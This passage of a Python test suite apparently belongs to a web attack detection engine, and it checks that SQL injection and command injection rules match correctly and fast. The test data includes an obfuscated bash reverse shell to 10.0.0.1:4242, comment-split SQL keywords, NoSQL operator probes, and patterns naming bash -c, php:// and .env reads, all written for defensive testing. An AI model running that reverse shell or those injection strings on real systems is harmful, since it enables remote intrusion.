    for _ in range(60):
        lines = _payload_lines(rng, payloads, "plain line {}", 300, 600)
        before = "\n".join(lines).lower()
        edited = before.split("\n")
        for _ in range(rng.randrange(1, 12)):
            at = rng.randrange(len(edited))
            edit = rng.choice(["change", "remove", "add", "join", "split"])
            if edit == "change":
                edited[at] = rng.choice(payloads).lower()
            elif edit == "remove":
                del edited[at]
            elif edit == "add":
                edited.insert(at, rng.choice(payloads).lower())
            elif edit == "join" and at + 1 < len(edited):
                edited[at : at + 2] = [edited[at] + edited[at + 1]]
            elif edit == "split":
                edited[at : at + 1] = [edited[at][:3], edited[at][3:]]
        after = "\n".join(edited)
        near = near_changes(before.split("\n"), after)
        if near is None:
            continue
        looked_again += 1
        assert len(near) < len(after)
        assert tokens(after) <= tokens(before) | tokens(near)
    assert looked_again >= 40


def _joined_by_pattern(text: str) -> str | None:
    """What `sqli._joined_keywords` returns, by its pattern searched through the whole text."""
    split_word = re.compile(r"\b" + sqli._SPLIT_WORD.pattern)

    def join(found: re.Match[str]) -> str:
        joined = sqli._joined_pieces(sqli._IN_WORD_COMMENT.split(found.group(0)))
        return found.group(0) if joined is None else joined

    rewritten = split_word.sub(join, text)
    return None if rewritten == text else rewritten


def _cast_by_pattern(text: str) -> tuple[int, int] | None:
    """What `sqli._cast_probe` returns, by patterns searched through the text: the first
    `[\\w)]\\s*::type` whose segments around are not names of a path."""
    type_after = sqli._CAST_TYPE.pattern.removeprefix("::")
    for found in re.finditer(r"(?=([\w)]\s*" + sqli._CAST_TYPE.pattern + "))", text):
        start, end = found.span(1)
        word = start if text[start] == ")" else re.search(r"\w*$", text[: start + 1]).start()
        if re.match(r"\s*!\s*[(\[{]|[ \t]*::(?!" + type_after + ")", text[end:]):
            continue  # a macro called, or a name after
        before = re.search(r"::\s*$", text[:word])
        if before and not sqli._CAST_TYPE.match(text, before.start()):
            continue  # a name before
        if re.search(r"\buse[ \t]+(?:[a-z_]\w*::)*$", text[text.rfind("\n", 0, word) + 1 : word]):
            continue  # an item imported
        if re.match(r"[ \t]*\(", text[end:]) and not text[:end].endswith(("varchar", "numeric")):
            continue  # a function called
        return start, end
    return None


def test_casts_and_split_keywords_are_found_as_their_whole_patterns_find_them() -> None:
    pieces = ["a", ")", " ", "\t", ":", "::", "int", "text", "x", "/*", "*/", "un", "ion", "sel"]
    pieces += ["ect", "\u00e9", "_", "(", "*", "double precision", "\n", "1", "/**/", "s", "e"]
    pieces += ["_sel", "x_un", "!(", "!", "use ", "varchar"]
    rng = random.Random(4)
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 40)))
        assert sqli._cast_probe(text, None) == _cast_by_pattern(text), text
        assert sqli._joined_keywords(text) == _joined_by_pattern(text), text
    # Told by its case, a package path is no cast; written in SQL's case, it is.
    packages = ("Math::BigInt", "Pod::Text::Color", "JSON::XS::Boolean", "PDB_Type::Int8")
    for original in packages:
        assert sqli._cast_probe(original.lower(), original) is None, original
    for original in ("username::INT", "Math::bigint", "x::Text", "1::Int"):
        assert sqli._cast_probe(original.lower(), original) is not None, original
    # Few comments in a long text: each is looked at alone.
    filler = "plain words " * 1000
    for split in ("selec/*x*/t", "u/**/nion", "sle/*" + "y" * 40 + "*/ep", "s/**/e/**/lect"):
        assert sqli._joined_keywords(filler + split + " " + filler) is not None
        assert sqli._joined_keywords(filler + split + "x " + filler) is None
    for _ in range(300):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 40)))
        text = "plain words " * 1000 + text + " plain words" * 1000
        assert sqli._joined_keywords(text) == _joined_by_pattern(text), text


@pytest.mark.parametrize("length", [199, 200, 201])
@pytest.mark.parametrize("unit", ["x", "*", "x*"])
def test_an_inline_comment_is_bounded_as_before(length: int, unit: str) -> None:
    before = re.compile(INLINE_COMMENT_BEFORE)
    text = "a/*" + (unit * length)[:length] + "*/b"
    assert sqli.inline_comments_spaced(text) == before.sub(" ", text)


def test_inline_comments_are_spaced_as_the_pattern_they_replace_spaced_them() -> None:
    before = re.compile(INLINE_COMMENT_BEFORE)
    rng = random.Random(12)
    pieces = [*"ab/*!\n ", "/*", "*/", "/*!", "**/", "/**/", "x" * 90]
    for _ in range(20000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 16)))
        spaced = sqli.inline_comments_spaced(text)
        assert spaced == before.sub(" ", text), text
        assert (spaced is text) == (before.search(text) is None), text


def test_optional_and_unasserted_leading_groups_are_spread() -> None:
    rewritten = searchable(re.compile(r"""(?:\(|['"])x|\b(?:ba)?sh"""))
    assert rewritten.pattern == r"""\(x|'x|"x|bash(?<!\wbash)|sh(?<!\wsh)"""


def test_repeated_and_optional_characters_are_written_out() -> None:
    assert searchable(re.compile(r"(?:\r?\n){2}<")).pattern == r"\r\n(?:\r?\n)<|\n(?:\r?\n)<"
    assert searchable(re.compile(r"x{2}?y|\$+?z")).pattern == r"xx{1}?y|\$\$*?z"


def test_a_class_first_is_checked_behind_the_literal_after_it() -> None:
    """`re` tries a class-first alternative at every character of the class (spaces,
    often); moved behind the literal that follows, the class costs a look at each place
    that literal occurs. Matches then start later by the classes moved."""
    assert _behind(r"\w\[\$(?:ne|gt)") == [(r"\[\$(?<=(?:\w)\[\$)(?:ne|gt)", 1)]
    assert _behind(r"[/=](?:[a-z]:/)?(?:etc/|^\.env$)") == [
        (r":/(?<=(?:[/=][a-z]):/)(?:etc/|^\.env$)", 2),
        (r"etc/(?<=(?:[/=])etc/)", 1),  # `^` after a character: never
    ]
    assert _behind(r"\w\s*<<<") is None  # how far before `<<<` a match starts: unknown
    rule = Rule(1, AttackType.SQLI, "test", re.compile(r"\w\[\$ne\]|[\s=]@?\$+where\b"))
    assert rule.shift == 1
    text = "a [$nix] $$wherever " * 200 + "x=$$where b[$ne]"
    expected = rule.pattern and rule.pattern.search(text)
    found = rule.search(text)
    assert found and expected and found.span() == expected.span()
    assert found.group() == "=$$where"


def test_long_texts_search_alternatives_alone_where_the_whole_pattern_cannot_skip() -> None:
    """Alternatives anchored at the start (`^alias …`) keep the whole pattern as it is; for
    long texts, every other alternative starts with its literal, a here-string after a word
    (`(?<=\\w)<<<`) included."""
    rule = next(r for m in MODULES for r in m.RULES if r.id == 3016)
    assert rule.pattern is not None and not rule.pattern.pattern.startswith("bash(?<!")
    alone = [part for _, part in rule.parts]
    assert r"bash(?<!\wbash)\s+-[a-z]*c\b" in alone
    assert any(part.startswith("^") for part in alone)
    assert all(part.startswith("^") or _LITERAL_FIRST.match(part) for part in alone)
    # Searched whole, it would try every alternative at every character: however many
    # alternatives a long text holds the literals of, they are searched alone.
    assert not rule.skips
    skipping = next(r for m in MODULES for r in m.RULES if r.parts and r.skips)
    assert skipping.pattern is not None
    assert all(_LITERAL_FIRST.match(part) for _, part in skipping.parts)


def test_rules_keep_their_patterns_searchable() -> None:
    rewritten = [
        rule
        for module in MODULES
        for rule in module.RULES
        if rule.pattern is not None and r"(?<!\w" in rule.pattern.pattern
    ]
    assert len(rewritten) >= 10


def test_a_command_folded_in_a_long_text_is_found() -> None:
    page = "\n".join(f"{n}. notes about 'quoting' in shells" for n in range(300))
    value = page + "\nb'a'sh -i >& /d'e'v/t'c'p/10.0.0.1/4242 0>&1\n" + page
    hits = Engine().scan(Request("POST", "/", (("Content-Type", "text/plain"),), value.encode()))
    assert AttackType.RCE in {hit.type for hit in hits}


@pytest.mark.parametrize(
    ("alternative", "literal"),
    [
        (r"p(?<!\w.)hp://", "php://"),  # across a look-behind
        (r"(?:^\s*|\w)\[\$(?:ne|gt)\]", "[$"),  # after a group, among escapes
        (r"\bexec\b|", "exec"),
        (r"ab*c", "a"),  # a quantified character is no part of one
        (r"x{2}", ""),  # nor are a quantifier's bounds
        (r"\d{1,3}\.\d", "."),
        (r"a\x41bc", "bc"),  # \x41 is one character, not "x41"
        (r"[\]ab]cd", "cd"),
        (r"(?:union|select)", ""),
    ],
)
def test_required_literal(alternative: str, literal: str) -> None:
    assert required_literal(alternative.removesuffix("|")) == literal


def _payloads() -> list[str]:
    lines = [
        line.split("\t", 1)[1].replace("\\r", "\r").replace("\\n", "\n")
        for path in sorted(DETECTION.glob("*.tsv"))
        for line in path.read_text(encoding="utf-8").splitlines()
        if line.startswith("+\t")
    ]
    return [value for line in lines for value in (line, line.lower())]


@pytest.mark.parametrize("length", [PRUNE_MIN, 60])
def test_texts_searched_by_alternatives_find_what_the_whole_pattern_finds(length: int) -> None:
    """A long text is searched with the alternatives whose literal it holds, one by one
    when they are few, and so is a short one when the whole pattern cannot skip: every
    rule must find the same first match there as its whole pattern, in texts full of the
    payloads the rules are written for: told which literals the text holds by the keyword
    stage, or by its class's own (as a text its detector derived is), or by neither."""
    payloads = _payloads()
    rng = random.Random(7)
    rules = [r for m in MODULES for r in m.RULES if r.pattern is not None and r.parts]
    assert len(rules) >= 20
    filler = "plain words, numbers 12 and (parentheses); "
    signatures = Signatures(MODULES)
    for _ in range(60 if length >= PRUNE_MIN else 600):
        pieces: list[str] = []
        while sum(map(len, pieces)) < length:
            pieces.append(rng.choice(payloads) if rng.random() < 0.2 else filler)
        text = rng.choice(["\n", " ", ""]).join(pieces)
        present = signatures.tokens(text)  # which literals it holds, from the keyword stage
        own = {module.TYPE: signatures.tokens(text, module.TYPE) for module in MODULES}
        if length >= PRUNE_MIN:
            assert all(literals_found(kind) in tokens for kind, tokens in own.items())
        for rule in rules:
            assert rule.pattern is not None
            expected = rule.pattern.search(text)
            for found in (
                rule.search(text),
                rule.search(text, present),
                rule.search(text, own[rule.type]),
            ):
                assert (found and found.span()) == (expected and expected.span()), rule.id


def test_a_derived_text_is_searched_from_the_literals_its_value_and_changes_hold() -> None:
    """A long text a detector derives is looked at again near its changes only: its
    class's literals found in the value and in those lines must tell its rules where to
    search as well as the whole text would. Looked for in every one of those lines, short
    as they are, else each of a rule's 120 literals was looked for in the whole text."""
    payloads = _payloads()
    rng = random.Random(13)
    signatures = Signatures(MODULES)
    rules = [r for m in MODULES for r in m.RULES if r.pattern is not None and r.parts]
    told = 0
    for _ in range(30):
        lines = _payload_lines(rng, payloads, "plain line {} (a, b);", 300, 500)
        value = "\n".join(lines).lower()
        view = View(value, "post.text", signatures.tokens, present=signatures.tokens(value))
        edited = value.split("\n")
        for _ in range(rng.randrange(1, 6)):
            edited[rng.randrange(len(edited))] = rng.choice(payloads).lower()
        derived = "\n".join(edited)
        for kind in {rule.type for rule in rules}:
            present = view.tokens(derived, kind)
            told += literals_found(kind) in present
            for rule in (r for r in rules if r.type is kind):
                assert rule.pattern is not None
                expected = rule.pattern.search(derived)
                found = rule.search(derived, present)
                assert (found and found.span()) == (expected and expected.span()), rule.id
    assert told >= 100


@pytest.mark.parametrize(
    ("code", "words", "prose"),
    [
        (1000, 3000, True),  # three in four: prose, though the code comes first
        (1000, 2999, False),  # just under
        (300, 0, False),
        (0, 3000, True),
    ],
)
def test_prose_is_decided_by_the_whole_text(code: int, words: int, prose: bool) -> None:
    """A long text stops being read once prose is out of reach, never before: a head of
    code tokens does not decide a text whose words come later."""
    text = " ".join(["x=f(a,b);"] * code + ["words"] * words)
    assert View(text, "post.text", lambda _text, _of, _literals: frozenset()).prose is prose


@pytest.mark.parametrize(
    "words",
    [
        "the build runs the tests and then packs the release for every platform we ship",
        "빌드는 테스트를 실행한 다음 우리가 배포하는 모든 플랫폼용 릴리스를 묶습니다 그리고 끝",
        "сборка запускает тесты и затем собирает выпуск для каждой платформы которую мы даём",
    ],
)
def test_a_document_counts_words_of_any_script(words: str) -> None:
    """Three lines and thirty words make a document, in whatever script they are written:
    a Korean README's code lines are a document's, as an English one's are."""
    lines = "\n".join([words] * 3 + ["npm install && npm run build"]).lower()
    assert is_document(lines)
    assert not is_document("\n".join([words, "", "npm install && npm run build"]).lower())


def test_no_token_routes_a_large_share_of_an_apis_values() -> None:
    """A token routes each value it occurs in to its detector, which then tries the rules
    the token names: one that ordinary API values hold (`.com`, in every address) makes
    every request pay for a detector that finds nothing. Of the benign API corpus's
    values, none is in more than 8 % (`http` is in 7 %)."""
    import base64
    import json

    from node.points import Limits, extract

    values: list[str] = []
    corpus = Path(__file__).parent / "corpora" / "benign-api.jsonl"
    for line in corpus.read_text().splitlines():
        row = json.loads(line)
        body = base64.b64decode(row.get("body_b64", ""))
        request = Request(row["method"], row["uri"], tuple(map(tuple, row["headers"])), body)
        values += [value.lower() for _, value in extract(request, Limits()).items]
    counts: dict[str, int] = {}
    for _, present in Engine().signatures.scan_many(values):
        for token in present:
            counts[token] = counts.get(token, 0) + 1
    common = {token: count / len(values) for token, count in counts.items()}
    assert {token for token, share in common.items() if share > 0.08} == set()
